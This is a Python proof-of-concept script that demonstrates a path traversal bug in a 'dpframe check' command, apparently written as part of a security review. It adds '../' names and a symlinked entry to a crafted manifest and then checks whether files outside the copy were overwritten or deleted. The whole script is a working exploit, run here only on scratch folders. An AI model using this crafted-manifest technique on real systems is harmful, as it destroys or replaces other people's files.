"""Break: `dpframe check COPY` on a crafted dereferenced copy writes (and deletes) outside it.

refresh_copy() trusts the manifest's "files" list: for a name "../victim", the top-level
path is COPY/../victim (outside the copy) and the run's entry is COPY/current/../victim =
COPY/victim (inside the attacker's copy). check then replaces the victim with the copy's
content: shutil.rmtree() of a victim folder, a file overwritten. A name whose parent in
the copy is a symlink ("evil/x" with COPY/evil -> elsewhere) writes through it as well.
"""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import _base
from typer.testing import CliRunner

from dpframe.cli import app

work = _base.fresh("traversal")
copy = work / "copy"
shutil.copytree(work / "released", copy, symlinks=False)  # cp -rL: a dereferenced copy
# the victims, beside the copy (e.g. other downloads, a home folder)
(work / "victim_dir").mkdir()
(work / "victim_dir" / "precious.txt").write_text("precious data\n")
(work / "victim.txt").write_text("precious file\n")
elsewhere = work / "elsewhere"
elsewhere.mkdir()
(elsewhere / "config").write_text("original config\n")
# the crafted copy: payloads inside it, and the manifest's files naming ../
(copy / "victim_dir").mkdir()
(copy / "victim_dir" / "planted.txt").write_text("attacker\n")
(copy / "victim.txt").write_text("attacker content\n")
(copy / "sub").symlink_to(elsewhere)  # a top-level symlink in the copy...
(copy / "current" / "sub").mkdir()  # ...and the run's "entry" under it
(copy / "current" / "sub" / "config").write_text("attacker config\n")
manifest = copy / "current" / "manifest.json"
doc = json.loads(manifest.read_text())
doc["files"] += ["../victim_dir", "../victim.txt", "sub/config"]
manifest.write_text(json.dumps(doc))

res = CliRunner().invoke(app, ["check", str(copy)])
print("check exit code:", res.exit_code, res.output.strip()[-300:])
print("victim_dir now holds:", sorted(p.name for p in (work / "victim_dir").iterdir()))
print("victim.txt now reads:", (work / "victim.txt").read_text().strip())
print("elsewhere/config now reads:", (elsewhere / "config").read_text().strip())
broken = (work / "victim.txt").read_text() != "precious file\n"
broken |= not (work / "victim_dir" / "precious.txt").exists()
broken |= (elsewhere / "config").read_text() != "original config\n"
print("BREAK: check wrote outside the copy" if broken else "held")
